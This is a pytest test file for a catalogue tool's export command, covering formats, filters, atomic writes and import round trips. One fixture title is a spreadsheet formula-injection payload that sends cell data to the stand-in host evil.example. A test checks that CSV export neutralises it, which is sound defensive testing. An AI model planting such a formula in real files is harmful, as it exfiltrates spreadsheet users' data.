"""htcat export: formats, filters, files written atomically, and the round trip back in."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner
from varied_catalog import varied_entries

from helpers import entries_in, write_catalog
from htcat.cli.app import app
from htcat.store import fs
from htcat.store.file import init_catalog

CHECKED = {"outcome": "broken", "status": 404, "checked": "2026-01-01T00:00:00Z"}


@pytest.fixture
def small_db(db: Path) -> Path:
    return write_catalog(
        db,
        [
            {
                "id": "evil",
                "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                "type": "report",
                "date": "2022",
                "notes": "internal remark",
                "links": [{"url": "https://example.org/r.pdf", "kind": "pdf", "check": CHECKED}],
            },
            {"id": "web", "title": "Webinar *bold* <b>", "type": "webinar", "date": "2021"},
        ],
    )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_default_is_json_on_stdout_with_whole_entries(small_db: Path, cli):
    result = cli("export")
    assert result.exit_code == 0, result.stderr
    exported = json.loads(result.stdout)
    assert [e["id"] for e in exported] == ["evil", "web"]
    assert exported[0]["links"][0]["check"] == CHECKED
    assert "notes" not in exported[0]
    assert result.stderr == ""


def test_internal_notes_only_with_include_internal(small_db: Path, cli):
    for fmt in ("json", "jsonl", "csv", "markdown"):
        assert "internal remark" not in cli("export", "--format", fmt).stdout
        assert "internal remark" in cli("export", "--format", fmt, "--include-internal").stdout


def test_a_hyperlink_formula_comes_out_of_csv_inert(small_db: Path, cli):
    rows = csv_rows(cli("export", "--format", "csv").stdout)
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_has_the_columns_import_reads(small_db: Path, cli):
    header = cli("export", "--format", "csv").stdout.splitlines()[0]
    assert (
        header
        == "id,title,type,summary,date,publisher,status,people,audiences,tags,links,citation,"
        "created,updated"
    )


def test_markdown_is_grouped_by_type_and_escaped(small_db: Path, cli):
    text = cli("export", "--format", "markdown").stdout
    assert text.index("## Reports (1)") < text.index("## Webinars (1)")
    assert "### Webinar \\*bold\\* \\<b\\>" in text
    assert "- [https://example.org/r.pdf](<https://example.org/r.pdf>) (pdf)" in text


def test_filters_are_those_of_list(small_db: Path, cli):
    result = cli("export", "--format", "jsonl", "--type", "webinar")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == ["web"]
    assert cli("export", "--format", "jsonl", "--link-status", "broken").stdout.count("\n") == 1
    assert cli("export", "--since", "2022", "--format", "jsonl").stdout.count("\n") == 1


def test_output_file_is_written_atomically_with_format_from_its_name(
    small_db: Path, tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch
):
    written: list[tuple[Path, str]] = []
    real = fs.write_file_atomically

    def recording(path: Path, data: bytes, **kwargs: Any) -> None:
        written.append((path, kwargs.get("what", "")))
        real(path, data, **kwargs)

    monkeypatch.setattr("htcat.store.fs.write_file_atomically", recording)
    target = tmp_path / "out.csv"
    result = cli("export", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr == f"exported 2 entries to {target}\n"
    assert written == [(target, "export")]
    assert [r["id"] for r in csv_rows(target.read_text())] == ["evil", "web"]


def test_an_output_name_without_a_known_suffix_needs_format(small_db: Path, tmp_path: Path, cli):
    result = cli("export", "-o", str(tmp_path / "out.txt"))
    assert result.exit_code == 2 and "give --format" in result.stderr
    assert not (tmp_path / "out.txt").exists()
    assert cli("export", "-o", str(tmp_path / "out.txt"), "--format", "jsonl").exit_code == 0


def test_an_unknown_format_is_refused(small_db: Path, cli):
    result = cli("export", "--format", "xlsx")
    assert result.exit_code == 2 and "--format 'xlsx'" in result.stderr


def test_an_unwritable_output_is_reported_and_nothing_left_behind(
    small_db: Path, tmp_path: Path, cli
):
    result = cli("export", "-o", str(tmp_path / "missing" / "out.json"))
    assert result.exit_code != 0
    assert "cannot write export" in result.stderr


def test_help_ends_with_an_example(cli):
    result = cli("export", "--help", db_path=None)
    assert "Example:" in result.stdout and "htcat export -o catalog.csv" in result.stdout


# --- round trips: export, then import into an empty catalog ----------------------------------


def without_checks(entries: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {
        i: {**e, "links": [{**link, "check": None} for link in e["links"]]}
        for i, e in entries.items()
    }


def round_trip(source: Path, target: Path, fmt: str, cli) -> dict[str, dict[str, Any]]:
    exported = cli("export", "--format", fmt, "--include-internal", db_path=source)
    assert exported.exit_code == 0, exported.stderr
    init_catalog(target)
    imported = cli(
        "import",
        "-",
        "--format",
        fmt,
        "--keep-unknown",
        db_path=target,
        input=exported.stdout_bytes,
    )
    assert imported.exit_code == 0, imported.stderr
    return entries_in(target)


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_the_shipped_catalog_round_trips(seed_db: Path, tmp_path: Path, cli, fmt: str):
    copied = round_trip(seed_db, tmp_path / "copy.json", fmt, cli)
    original = entries_in(seed_db)
    assert copied == (without_checks(original) if fmt == "csv" else original)


@pytest.fixture(scope="module")
def varied_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """10,000 awkward entries: unicode, commas, quotes, new lines, formulas, separators."""
    path = tmp_path_factory.mktemp("varied") / "catalog.json"
    init_catalog(path)
    data = orjson.dumps(varied_entries(10_000))
    result = CliRunner().invoke(
        app, ["--db", str(path), "import", "-", "--format", "json", "--keep-unknown"], input=data
    )
    assert result.exit_code == 0, result.output
    return path


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_a_varied_10000_entry_catalog_round_trips(varied_db: Path, tmp_path: Path, cli, fmt):
    original = entries_in(varied_db)
    copied = round_trip(varied_db, tmp_path / "copy.json", fmt, cli)
    assert len(copied) == 10_000
    assert copied == (without_checks(original) if fmt == "csv" else original)


def test_the_varied_catalog_has_what_it_claims(varied_db: Path):
    entries = list(entries_in(varied_db).values())
    titles = [e["title"] for e in entries]
    assert any(t.startswith("=HYPERLINK") for t in titles)
    assert any("\n" in e["summary"] for e in entries)
    assert any("," in t and '"' in t for t in titles)
    assert any("|" in link["label"] or ";" in link["label"] for e in entries for link in e["links"])
    assert any(link["check"] for e in entries for link in e["links"])
    assert any("source_system" in e for e in entries)
    assert any(any(ord(c) > 0xFFFF for c in t) for t in titles)


def test_the_commands_name_the_formats_and_choices_the_code_has():
    # cli/transfer.py spells them out so as not to import every format at start-up.
    from htcat import formats, transfer
    from htcat.cli import transfer as cli_transfer

    assert cli_transfer.IMPORT_FORMATS == formats.IMPORT_FORMATS
    assert cli_transfer.EXPORT_FORMATS == formats.EXPORT_FORMATS
    assert cli_transfer.ON_CONFLICT == transfer.ON_CONFLICT


def test_start_up_imports_no_format_module():
    code = (
        "import sys\n"
        "from typer.testing import CliRunner\n"
        "from htcat.cli.app import app\n"
        "assert CliRunner().invoke(app, ['--help']).exit_code == 0\n"
        "print(sorted(m for m in sys.modules if m.startswith(('htcat.formats', 'htcat.transfer'))))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_html_page_shows_published_entries_unless_told_and_says_what_it_left_out(db: Path, cli):
    write_catalog(
        db,
        [
            {"title": "Public report", "status": "published"},
            {"title": "Unfinished draft", "status": "draft"},
            {"title": "Old archived page", "status": "archived"},
        ],
    )
    result = cli("export", "--format", "html")
    assert result.exit_code == 0
    assert "Public report" in result.stdout
    assert "Unfinished draft" not in result.stdout and "Old archived page" not in result.stdout
    assert result.stderr == (
        "the page shows published entries only: left out 2 draft or archived entries "
        "(choose with --status)\n"
    )
    chosen = cli("export", "--format", "html", "--status", "draft", "--status", "published")
    assert "Unfinished draft" in chosen.stdout and chosen.stderr == ""
    assert "Unfinished draft" in cli("export", "--format", "json").stdout
